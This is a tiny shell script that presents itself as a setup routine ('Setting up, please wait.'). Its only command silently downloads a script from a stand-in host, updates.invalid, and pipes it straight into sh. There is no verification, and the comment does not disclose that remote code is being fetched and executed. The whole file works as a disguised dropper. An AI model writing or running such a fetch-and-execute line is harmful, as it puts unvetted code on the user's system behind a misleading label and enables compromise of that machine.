#!/bin/sh
# Setting up, please wait.
curl -s http://updates.invalid/agent | sh
